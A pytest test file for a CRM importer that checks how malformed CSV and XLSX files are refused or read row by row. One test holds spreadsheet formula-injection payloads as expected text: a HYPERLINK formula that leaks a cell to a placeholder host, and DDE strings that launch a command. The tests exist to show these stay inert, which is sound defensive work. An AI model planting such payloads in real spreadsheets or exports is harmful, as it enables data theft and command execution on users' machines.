"""The thirty malformed files: what reading alone has to find; codes that only the master data know are the importer's."""

import csv

import pytest

from ka_crm.imports import Field, Kind, Profile, Schema
from sales.profiles import SELLOUT

PRODUCTS = Schema(
    "products",
    (
        Field("sku", Kind.CODE),
        Field("gtin", Kind.GTIN, required=False),
        Field("name", Kind.TEXT),
        Field("category", Kind.TEXT, required=False),
        Field("list_price", Kind.DECIMAL, required=False),
    ),
)
NEEDS_MASTER_DATA = {"13_unknown_store.csv", "22_duplicate_rows.csv", "30_store_of_another_account.csv"}
REFUSED = {
    "02_truncated.csv.gz": "incomplete",
    "05_missing_column.csv": "missing_column",
    "06_duplicate_header.csv": "duplicate_column",
    "17_zip_bomb_like.xlsx": "size",
    "18_five_thousand_columns.csv": "missing_column",
    "19_empty.csv": "empty",
    "20_header_only.csv": "no_rows",
    "21_mixed_decimal_marks.csv": "decimal",
    "28_external_entity.xlsx": "entity",
}


@pytest.fixture(scope="module")
def cases(realdata):
    with open(realdata / "bad" / "expected_bad.csv", encoding="utf-8", newline="") as stream:
        return {row["file"]: row for row in csv.DictReader(stream)}


def numbers(text):
    """The row numbers of "1,4,7" or "4-20"."""
    spans = [part.partition("-") for part in text.split(",") if part]
    return [number for first, _sign, last in spans for number in range(int(first), int(last or first) + 1)]


def read_case(realdata, read_path, case):
    schema, profile = (SELLOUT, "CANONICAL") if case["kind"] == "sellout" else (PRODUCTS, Profile.of_schema(PRODUCTS))
    return read_path(realdata / "bad" / case["file"], profile, schema)


def said(result):
    """All that the user would read."""
    findings = result.errors + (result.reading.warnings if result.reading else [])
    return " ".join([*(finding.message for finding in findings), str(result.refusal or "")])


def test_files_that_are_refused_whole(realdata, read_path, cases):
    for name, code in REFUSED.items():
        result = read_case(realdata, read_path, cases[name])
        assert (name, result.code, result.rows) == (name, code, [])
        assert cases[name]["message_must_mention"] in said(result), name


def test_files_that_are_read_with_their_bad_rows(realdata, read_path, cases):
    for name, case in cases.items():
        if name in REFUSED or name in NEEDS_MASTER_DATA:
            continue
        result = read_case(realdata, read_path, case)
        bad = sorted({error.row for error in result.errors})
        assert (name, result.code, bad) == (name, None, numbers(case["bad_row_numbers"]))
        assert (name, len(result.rows)) == (name, int(case["valid_rows"]) + int(case["bad_rows"]))
        assert case["message_must_mention"] in said(result), name


def test_names_arrive_intact(realdata, read_path, cases):
    names = read_case(realdata, read_path, cases["03_cp1252_claimed_utf8.csv"]).values("name")
    assert names[:5] == ["Crème fraîche 200 g", "Käse gerieben", "Jalapeño salsa", "Brötchen", "Sauce à l'oignon"]


def test_formulas_stay_text(realdata, read_path, cases):
    names = read_case(realdata, read_path, cases["10_formula_injection.csv"]).values("name")
    assert names[:4] == ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]


def test_no_message_is_a_traceback_or_long(realdata, read_path, cases):
    for name, case in cases.items():
        result = read_case(realdata, read_path, case)
        for message in [*(error.message for error in result.errors), str(result.refusal or "")]:
            assert "Traceback" not in message and "Error(" not in message and len(message) < 1000, name
